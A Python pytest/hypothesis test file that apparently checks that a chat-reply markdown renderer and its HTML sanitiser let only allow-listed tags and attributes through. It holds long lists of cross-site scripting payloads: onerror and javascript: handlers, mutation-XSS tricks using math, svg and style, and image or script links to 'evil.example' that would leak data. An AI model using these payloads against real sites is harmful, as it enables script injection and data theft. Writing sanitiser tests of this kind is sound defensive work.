"""chat_magics.markdown against hostile text: nothing but the allow-list of this file comes out."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chat_magics.markdown import MarkdownStream, Math, to_html
from chat_magics.markdown.sanitise import clean

PROSE = (
    "p br hr h1 h2 h3 h4 h5 h6 strong em s del code pre span div blockquote ul ol li table thead "
    "tbody tr th td a"
)
MATHML = (
    "math mrow mi mo mn ms mtext mspace msup msub msubsup mfrac msqrt mroot munder mover "
    "munderover mtable mtr mtd mstyle mpadded mphantom menclose mmultiscripts mprescripts none "
    "merror"
)
MATHML_ATTRIBUTES = (
    "display mathvariant stretchy fence form separator lspace rspace minsize maxsize "
    "movablelimits accent accentunder linethickness columnalign rowspacing columnspacing "
    "columnlines rowlines width height depth mathsize mathcolor scriptlevel displaystyle notation "
    "symmetric largeop"
)
VALUES = {
    ("a", "href"): r"(https?://|mailto:)[^\s\"'<>]+",
    ("a", "rel"): "noopener noreferrer nofollow",
    ("a", "target"): "_blank",
    ("a", "title"): "(?s:.*)",
    ("ol", "start"): r"\d+",
    ("pre", "data-lang"): r"[\w+#.-]+",
    ("td", "style"): "text-align:(left|right|center)",
    ("th", "style"): "text-align:(left|right|center)",
}
CLASS = "|".join(
    [
        "pg-[a-z0-9]+",
        "chat-magics-(math|host|source|pending)",
        "tex2jax_process",
        "mathjax_process",
    ]
)
VOID = {"br", "hr"}


class AllowList(HTMLParser):
    """Reads HTML and notes what is not allowed, and what is left open or closed twice."""

    def __init__(self) -> None:
        super().__init__()
        self.refused: list[str] = []
        self.open: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in f"{PROSE} {MATHML}".split():
            self.refused.append(f"<{tag}>")
        for name, value in attrs:
            if not self.allows(tag, name, value or ""):
                self.refused.append(f"<{tag} {name}={value!r}>")
        if tag not in VOID:
            self.open.append(tag)

    def allows(self, tag: str, name: str, value: str) -> bool:
        if name == "class":
            return all(re.fullmatch(CLASS, part) for part in value.split())
        if tag in MATHML.split():
            return (
                name in MATHML_ATTRIBUTES.split() and re.fullmatch(r"[\w#%. -]+", value) is not None
            )
        pattern = VALUES.get((tag, name))
        return pattern is not None and re.fullmatch(pattern, value) is not None

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.refused.append(f"</{tag}>")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.refused.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.refused.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.refused.append(f"<?{data}>")


def check(markup: str) -> str:
    """The text that a reader sees; fails on anything that is not allowed."""
    reader = AllowList()
    reader.feed(markup)
    reader.close()
    assert reader.refused == []
    assert reader.open == []
    return reader.text


HTML_PAYLOADS = [
    '<p title="x" lang=x dir=rtl hidden is=x slot=x contenteditable>x</p>',
    "<script>alert(1)</script>",
    '<script src="//evil.example/x.js"></script>',
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/?q=secret">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<style>*{background:url(//evil.example)}</style>",
    '<link rel=stylesheet href="//evil.example">',
    '<form action="//evil.example"><input autofocus onfocus=alert(1)><button>Go</button></form>',
    '<base href="//evil.example/">',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<video poster="//evil.example"><source onerror=alert(1)></video>',
    '<object data="//evil.example"></object><embed src="//evil.example">',
    '<button data-commandlinker-command="apputils:change-theme" '
    'data-commandlinker-args="{}">x</button>',
    '<a href="javascript:alert(1)" id=x name=y class="jp-Button lm-Widget">x</a>',
    '<a href=" java&#9;script:alert(1)">x</a><a href="data:text/html,x">x</a><a href="/x">x</a>',
    '<div style="background:url(//evil.example)" data-lang=x tabindex=0>x</div>',
    '<td style="text-align:left;background:url(//evil.example)">x</td>',
    '<pre data-lang="x onload=y" data-mime-type="x">x</pre>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    'onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a title="</style><img src onerror=alert(1)>">',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style>',
    '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)" style="x">x</mi></math>',
    '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">',
    "<!--><img src=x onerror=alert(1)>--><![CDATA[<img onerror=x>]]><?php x?><!doctype x>",
    "<template><script>x</script></template><plaintext><xmp><img onerror=x></xmp>",
]
MARKDOWN_PAYLOADS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    '[x](https://e.example "onmouseover=alert(1) \'")',
    '[x](https://e.example/"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![<img src=x onerror=alert(1)>](x)",
    "![x][r]\n\n[r]: https://evil.example/?q=secret\n\n",
    "[x][r]\n\n[r]: javascript:alert(1)\n\n",
    '```"><script>alert(1)</script>\nx\n```\n',
    "```x onload=y class=jp-Button\n<img src=x onerror=alert(1)>\n```\n",
    "```html\n<script>alert(1)</script>\n```\n",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\text{&lt;img src=x onerror=alert(1)&gt;}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\class{jp-Button}{x}$ $\cssId{x}{y}$ $\style{background:url(//evil.example)}{x}$",
    r"$\color{red;background:url(x)}{x}$",
    r"\(</span><script>alert(1)</script>\)",
    "$$\n</div><img src=x onerror=alert(1)>\n$$\n",
    r"\begin{align}<script>x</script>&a\end{align}",
    "| a |\n|:-:|\n| <b onclick=x>y</b> |\n",
]
GLUE = [
    "\n",
    "\n\n",
    " ",
    "*",
    "`",
    "$",
    "> ",
    "- ",
    "|",
    "<",
    ">",
    '"',
    "'",
    "&",
    "\0",
    "](",
    "![",
    "\\",
]
ROUTES: list[Math] = ["tex", "mathml"]


@pytest.mark.parametrize("math", ROUTES)
@pytest.mark.parametrize("payload", HTML_PAYLOADS)
def test_html_in_a_reply_is_text(payload: str, math: Math) -> None:
    assert payload in check(to_html(f"`{payload}`", math=math))
    assert check(to_html(payload, math=math)).startswith("<")


@pytest.mark.parametrize("math", ROUTES)
@pytest.mark.parametrize("payload", MARKDOWN_PAYLOADS)
def test_nothing_in_markdown_gets_past_the_allow_list(payload: str, math: Math) -> None:
    check(to_html(payload, math=math))
    check(to_html(f"- a\n- {payload}", math=math))


@pytest.mark.parametrize("payload", HTML_PAYLOADS)
def test_the_gate_itself_lets_nothing_through(payload: str) -> None:
    check(clean(payload))
    check(clean(f"<table><tr><td><math><mtext>{payload}</mtext></math></td></tr></table>"))


@settings(max_examples=200)
@given(
    parts=st.lists(st.sampled_from(HTML_PAYLOADS + MARKDOWN_PAYLOADS + GLUE * 3), max_size=12),
    math=st.sampled_from(ROUTES),
)
def test_no_mixture_gets_past_the_allow_list(parts: list[str], math: Math) -> None:
    check(to_html("".join(parts), math=math))


@settings(max_examples=200)
@given(parts=st.lists(st.sampled_from(HTML_PAYLOADS + GLUE), max_size=12))
def test_no_mixture_gets_past_the_gate_itself(parts: list[str]) -> None:
    check(clean("".join(parts)))


@settings(max_examples=100)
@given(
    parts=st.lists(st.sampled_from(HTML_PAYLOADS + MARKDOWN_PAYLOADS + GLUE), max_size=12),
    math=st.sampled_from(ROUTES),
)
def test_no_unfinished_block_gets_past_the_allow_list(parts: list[str], math: Math) -> None:
    stream = MarkdownStream(math)
    for part in parts:
        stream.feed(part)
        for block in stream.update():
            check(block.html)
    for block in stream.finish():
        check(block.html)


def test_a_long_unfinished_block_does_not_get_past_the_allow_list() -> None:
    for opening in ("```html\n", "- a\n"):
        stream = MarkdownStream()
        stream.feed(opening + "- word\n" * 2_000)
        stream.update()
        stream.feed("</code></pre><img src=x onerror=alert(1)>")
        assert "onerror" in check(stream.update()[-1].html)


@settings(max_examples=200)
@given(text=st.text(max_size=200), math=st.sampled_from(ROUTES))
def test_no_text_at_all_raises(text: str, math: Math) -> None:
    check(to_html(text, math=math))
